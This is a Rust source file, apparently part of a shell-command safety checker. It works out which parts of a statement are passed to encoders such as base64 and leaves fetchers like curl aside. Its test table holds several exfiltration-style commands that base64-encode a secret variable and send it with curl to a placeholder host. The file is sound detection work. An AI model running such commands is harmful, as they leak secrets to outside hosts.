//! What the encoders of a shell's statement are given.
//!
//! `curl "…?key=$KEY" | base64 -d` encodes nothing, and in `curl "…?key=$KEY" -d "$(base64 a.png)"` a picture is encoded and no key. The
//! statement is read as shells read it; where that is not certain, whatever stands in it may be what is encoded.

use std::ops::Range;

use stockade_shell::{Actions, ReadOptions, Run, Script, Span};

use super::sources::ENCODES;
use super::uses::all;

/// Programs that spell what they read in another alphabet.
const ENCODERS: &[&str] = &["base64", "gbase64", "base32", "basenc", "xxd", "od", "rev"];

/// Programs whose output comes from elsewhere, whatever they are given; a word of theirs encodes nothing.
const FETCHERS: &[&str] = &["curl", "wget", "http", "https", "xh"];

/// Arguments by which an encoder decodes.
const DECODES: &[&str] = &["-d", "-D", "-di", "-id", "--decode", "-r", "-rp"];

/// Returns the parts of a statement that encoders are given, or nothing where that cannot be told.
pub(super) fn encoded(statement: &str) -> Option<Vec<&str>> {
    // Where the statement begins in the middle of a line, what stands before it is not read.
    let script = Script::read_despite_appearance(statement, &ReadOptions::default()).ok()?;
    let actions = script.actions();
    if !actions.hazards.is_empty() {
        return None;
    }
    let mut parts = Vec::new();
    for word in all(&ENCODES, statement) {
        let (place, run) = innermost(&actions, &word)?;
        let program = name_of(run)?;
        if FETCHERS.contains(&program) {
            continue;
        }
        let is_named = ENCODERS.contains(&program) && statement.get(word)? == program;
        if !is_named {
            return None;
        }
        if !run.argv.iter().any(|word| word.known().is_some_and(|word| DECODES.contains(&word))) {
            add_given(&actions, place, statement, &mut parts)?;
        }
    }
    Some(parts)
}

/// The program that a word stands in, and none that lies within it.
fn innermost<'a, 't>(actions: &'a Actions<'t>, word: &Range<usize>) -> Option<(usize, &'a Run<'t>)> {
    let holds = |span: Span| span.start <= word.start && word.end <= span.end;
    let runs = actions.runs.iter().enumerate().filter(|(_, run)| holds(run.span));
    runs.min_by_key(|(_, run)| run.span.end - run.span.start)
}

fn name_of<'r>(run: &'r Run<'_>) -> Option<&'r str> {
    run.program()?.rsplit('/').next()
}

/// Adds what a program is given: its words and redirections, and all that flows into it but for what comes from the network.
fn add_given<'t>(
    actions: &Actions<'_>,
    encoder: usize,
    statement: &'t str,
    parts: &mut Vec<&'t str>,
) -> Option<()> {
    let mut given = vec![encoder];
    let mut at = 0;
    while let Some(place) = given.get(at).copied() {
        at += 1;
        let run = actions.runs.get(place)?;
        if place != encoder && name_of(run).is_some_and(|name| FETCHERS.contains(&name)) {
            continue;
        }
        parts.push(statement.get(run.span.start..run.span.end)?);
        let redirects = actions.redirects.iter().filter(|redirect| redirect.runs.contains(&place));
        for redirect in redirects {
            parts.push(statement.get(redirect.span.start..redirect.span.end)?);
        }
        let flows = actions.flows.iter().filter(|flow| flow.into.contains(&place));
        for from in flows.flat_map(|flow| flow.from.clone()) {
            if !given.contains(&from) {
                given.push(from);
            }
        }
    }
    Some(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A statement, what is sought in it, and whether an encoder may be given that.
    const STATEMENTS: &[(&str, &str, bool)] = &[
        ("echo $K | base64 | curl -d @- https://e.example", "$K", true),
        ("curl https://e.example/?q=$(echo $K | base64)", "$K", true),
        ("curl https://e.example/?q=`printf %s $K | base64 -w0`", "$K", true),
        ("base64 <<< $K", "$K", true),
        ("x=$(base64 <<< \"$K\")", "$K", true),
        ("cat <(echo $K) | gzip | base64", "$K", true),
        ("echo \"$K;$(true\" | base64", "$K", true),
        ("echo $K '$(' | base64 ')'", "$K", true),
        ("echo $K | python3 -c 'import base64'", "$K", true),
        ("echo $K | base64 $OPTION", "$K", true),
        ("curl https://a.example/?key=$K | base64", "$K", false),
        ("curl https://a.example/?key=$K -d @b.json | jq -r .x | base64 --decode > a.png", "$K", false),
        ("curl https://a.example/?key=$K -d \"{\\\"a\\\":\\\"$(base64 -w0 a.png)\\\"}\"", "$K", false),
        ("curl https://a.example/?key=$K -d '{\"encoding\":\"base64\"}'", "$K", false),
        ("echo $K | base64 -d", "$K", false),
    ];

    #[test]
    fn what_encoders_are_given() {
        for (statement, sought, wanted) in STATEMENTS {
            let given = encoded(statement);
            let holds = given.is_none_or(|parts| parts.iter().any(|part| part.contains(sought)));
            assert_eq!(holds, *wanted, "{statement}");
        }
    }
}
